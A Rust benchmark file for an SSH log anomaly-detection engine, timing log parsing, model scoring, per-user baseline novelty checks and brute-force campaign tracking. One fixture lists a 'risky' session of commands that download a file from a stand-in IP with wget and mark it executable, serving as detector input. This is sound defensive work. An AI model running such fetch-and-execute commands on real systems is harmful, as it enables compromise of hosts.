//! What the baselines and campaign detectors cost on top of parsing.
//!
//! - `detect/auth_logs_parse_only` and `detect/auth_logs_engine`: the input
//!   of the `parse` bench (real sshd logs, 34,420 lines × 4), once through
//!   the analyzer alone and once through the engine the agent ships: attempts
//!   to the campaign detectors in log-time order, every observation assessed,
//!   scored by the agents' embedded model with its reasons in words, judged
//!   and learnt when Normal.
//! - `detect/novelty_and_learn`: one session judged and learnt against a
//!   user with three weeks of history.
//! - `detect/campaign_flood`: failed logins from ever-new addresses with the
//!   source table full (1,024), i.e. the eviction path.

use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};

use bfp_common::artifacts::EMBEDDED_AGENT_MODEL;
use bfp_common::{CompactModel, Fingerprint, Protocol};
use bfp_detect::baseline::{BaselineConfig, Baselines, SessionFacts};
use bfp_detect::campaign::{CampaignConfig, CampaignDetector};
use bfp_detect::detector::{Assessment, SessionRules};
use bfp_detect::engine::{Engine, EngineConfig, Score, Scored};
use bfp_logs::analyze::{Analyzer, AnalyzerConfig, LogFormat, Observation};
use bfp_logs::AuthAttempt;
use bfp_testkit::real_lines;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

/// The agents' model and its reasons, as the agent scores.
struct AgentModel(CompactModel);

impl Score for AgentModel {
    fn score(&mut self, obs: &Observation, a: &Assessment) -> Scored {
        let verdict = self.0.score(&a.features);
        let reasons = bfp_detect::reasons::reasons(
            &obs.fingerprint,
            a.novelty.as_ref(),
            &a.context,
            &a.escalation,
            a.window,
            &verdict,
            3,
        );
        Scored { verdict, reasons }
    }

    fn session_rules(&self) -> SessionRules {
        SessionRules::AccountChurn
    }
}

fn config() -> AnalyzerConfig {
    AnalyzerConfig { reference_time: Some(1_795_564_800), ..AnalyzerConfig::default() }
}

fn parse_only(lines: &[String]) -> usize {
    let mut a = Analyzer::new(config());
    let mut n = 0;
    for line in lines {
        a.feed_line(line, LogFormat::Syslog);
        n += a.drain_ready().len();
    }
    n + a.finish().len()
}

fn engine(lines: &[String], model: &mut AgentModel) -> usize {
    let mut engine =
        Engine::new(EngineConfig { analyzer: config(), format: Some(LogFormat::Syslog), ..EngineConfig::default() });
    let mut judged = Vec::new();
    let mut n = 0;
    for line in lines {
        engine.feed(line);
        engine.drain(model, &mut judged);
        n += judged.drain(..).filter(|j| j.prediction.is_suspicious()).count();
    }
    engine.finish(model, &mut judged);
    n + judged.len()
}

fn bench(c: &mut Criterion) {
    let auth = real_lines(&["loghub/OpenSSH_2k.log", "elastic/auth.log", "exposed-rhel/secure"], 4);
    let mut g = c.benchmark_group("detect");
    g.sample_size(20);
    g.throughput(Throughput::Elements(auth.len() as u64));
    g.bench_function("auth_logs_parse_only", |b| b.iter(|| black_box(parse_only(&auth))));
    let mut model = AgentModel(CompactModel::from_bytes(EMBEDDED_AGENT_MODEL).unwrap());
    g.bench_function("auth_logs_engine", |b| b.iter(|| black_box(engine(&auth, &mut model))));

    // A user with three weeks of history, then one more session.
    let mut baselines = Baselines::new(BaselineConfig::default());
    let cmds: Vec<String> = ["/usr/bin/apt update", "systemctl status nginx", "ls -la /etc"].map(String::from).into();
    let t0 = 1_762_041_600i64;
    for day in 0..21 {
        let fp = Fingerprint {
            login_hour: 9 + (day % 8) as u8,
            session_duration_min: 25.0,
            commands: 3,
            failed_logins: 0,
            protocol: Protocol::Ssh,
            typing_speed_wpm: None,
            risky_commands: Some(0),
        };
        let ip = Some(IpAddr::V4(Ipv4Addr::new(198, 51, 100, day as u8)));
        baselines.learn(&SessionFacts::new("alice", ip, t0 + day * 86_400, &fp, &cmds, false), false);
    }
    let fp = Fingerprint {
        login_hour: 3,
        session_duration_min: 4.0,
        commands: 3,
        failed_logins: 0,
        protocol: Protocol::Ssh,
        typing_speed_wpm: None,
        risky_commands: Some(2),
    };
    let risky: Vec<String> = ["cd /tmp", "wget http://203.0.113.9/x", "chmod +x x"].map(String::from).into();
    let ip = Some(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 50)));
    g.throughput(Throughput::Elements(1));
    g.bench_function("novelty_and_learn", |b| {
        b.iter(|| {
            let mut bl = baselines.clone();
            let facts = SessionFacts::new("alice", ip, t0 + 22 * 86_400, &fp, &risky, false);
            let n = bl.novelty(&facts);
            black_box(bl.learn(&facts, n.escalates()))
        })
    });

    let mut campaigns = CampaignDetector::new(CampaignConfig::default());
    let mut k = 0u32;
    let attempt = |k: u32| AuthAttempt {
        at: t0 + i64::from(k / 64),
        source: IpAddr::V4(Ipv4Addr::from(0x0A00_0000 + k)),
        user: Some(u64::from(k % 7)),
        success: false,
        invalid_user: true,
        count: 1,
        protocol: Protocol::Ssh,
    };
    for _ in 0..2048 {
        k += 1;
        campaigns.observe(&attempt(k));
    }
    g.bench_function("campaign_flood", |b| {
        b.iter(|| {
            k += 1;
            campaigns.observe(&attempt(k));
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
